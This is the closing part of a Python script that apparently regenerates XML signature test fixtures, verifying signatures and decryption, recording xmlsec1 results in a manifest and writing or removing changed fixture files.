    for case in CASES:
        entry, data = case["entry"], case["data"]
        path = ROOT / entry["file"]
        if data is None:  # configuration-only entry: reuses another case's file
            data = outputs.get(entry["file"])
            check(data is not None, f"{entry['name']}: {entry['file']} is generated earlier")
        elif case["keep_if"] is not None:
            # Encrypted output is random: keep the committed file while it decrypts to the same plaintext.
            if path.exists() and decrypts_to(path.read_bytes(), case["keep_if"]):
                data = path.read_bytes()
            check(decrypts_to(data, case["keep_if"]), f"{entry['name']}: decrypts to its plaintext")
        outputs[entry["file"]] = data

        if entry["category"] in ("valid", "mutation") and entry["trusted_cert"] != ATTACKER_CERT:
            plain = decrypted(data) if entry["sp_decryption_key"] else data
            check(all_signatures_verify(plain, entry["trusted_cert"]), f"{entry['name']}: every signature verifies")

        if not case["xmlsec1"] or case["data"] is None or entry["sp_decryption_key"]:
            entry["xmlsec1"] = "not-run"
        elif have_xmlsec1:
            entry["xmlsec1"] = xmlsec1_first_signature(data, entry["trusted_cert"])
        else:
            entry["xmlsec1"] = old_manifest.get(entry["name"], {}).get("xmlsec1", "not-run")
        if entry["category"] == "valid" and entry["xmlsec1"] != "not-run":
            check(entry["xmlsec1"] == "verified", f"{entry['name']}: xmlsec1 verifies")

    manifest = (json.dumps([c["entry"] for c in CASES], indent=2) + "\n").encode()
    outputs[f"{REL}/manifest.json"] = manifest

    # 2. Write what changed, remove what is no longer generated.
    changed = []
    for rel, data in outputs.items():
        path = ROOT / rel
        if not path.exists() or path.read_bytes() != data:
            changed.append(rel)
            if not args.check:
                path.write_bytes(data)
    produced = {ROOT / rel for rel in outputs}
    for path in sorted(HERE.iterdir()):
        if path.suffix in (".xml", ".b64") and path not in produced:
            changed.append(f"{REL}/{path.name} (stale)")
            if not args.check:
                path.unlink()

    print(f"{len(CASES)} cases, {len(changed)} file(s) {'would change' if args.check else 'written'}")
    for rel in changed:
        print(f"  {rel}")
    return 1 if (args.check and changed) else 0


if __name__ == "__main__":
    sys.exit(main())
